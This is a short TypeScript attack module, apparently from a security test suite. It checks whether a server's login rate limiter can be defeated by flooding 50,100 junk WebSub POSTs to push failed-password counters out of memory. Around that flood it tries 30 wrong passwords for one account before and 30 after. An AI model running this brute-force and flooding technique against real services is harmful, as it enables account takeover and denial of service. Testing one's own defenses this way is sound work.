// 60 wrong passwords for one account, in two halves. Between them come 50,100 posts to made-up WebSub addresses, which may
// push the count of the first half out of the server's memory.
import { type Asked, type Attack, asJson, ask, countStatuses, type World } from './attack.ts'

const posts = 50_100
const guessesOfHalf = 30
const sideBySide = 50

export const counterFlood: Attack = {
  name: 'counters pushed out by WebSub posts',
  environment: { RATE_LIMIT: 'on' },
  run: async (world) => {
    const first = await guess(world)
    await flood(world)
    const second = await guess(world)
    return `wrong passwords: ${countStatuses(first)}; after ${posts} posts: ${countStatuses(second)}`
  },
}

async function guess(world: World): Promise<Asked[]> {
  const answers: Asked[] = []
  for (let number = 0; number < guessesOfHalf; number++)
    answers.push(
      await ask(world, '/auth/login', asJson({ email: 'bystander@example.com', password: `guess ${number}` })),
    )
  return answers
}

async function flood(world: World): Promise<void> {
  let sent = 0
  const sendSome = async () => {
    while (sent < posts) {
      sent += 1
      await ask(world, `/websub/${crypto.randomUUID()}`, { method: 'POST' })
    }
  }
  await Promise.all(Array.from({ length: sideBySide }, sendSome))
}
